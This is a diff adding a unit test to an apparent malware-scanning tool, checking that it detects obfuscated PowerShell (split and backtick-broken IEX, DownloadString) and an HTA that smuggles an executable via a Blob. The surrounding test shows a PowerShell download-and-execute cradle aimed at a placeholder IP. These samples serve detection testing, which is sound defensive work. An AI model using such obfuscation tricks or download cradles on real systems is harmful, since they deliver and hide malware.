@@ -184,6 +184,19 @@ describe('OOXML', () => {
 });
 
 describe('scripts', () => {
+  it('sees through PowerShell tick and cast obfuscation, and reads an HTA as a page', async () => {
+    const ps1 = Buffer.from("& ('I'+'EX') ([char]0x49 + 'wr'); $x = 'Down'+'loadString'; I`E`X $y");
+    const [script] = (await analyzeBytes(ps1, 'run.ps1', defaultOptions())).files;
+    const obfuscated = script?.findings.find((f) => f.id === 'script-obfuscated')?.summary;
+    assert.match(obfuscated ?? '', /\[char\] casts, backtick-split words, split keywords/);
+    const hta = Buffer.from(
+      '<html><script>var b = new Blob([x]); navigator.msSaveOrOpenBlob(b, "a.exe");</script></html>',
+    );
+    const [app] = (await analyzeBytes(hta, 'update.hta', defaultOptions())).files;
+    assert.equal(app?.detectedType, 'script');
+    assert.ok(ids(app).includes('html-smuggling'));
+  });
+
   it('decodes an encoded PowerShell command and flags the download', async () => {
     const command = Buffer.from(
       "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/s')",
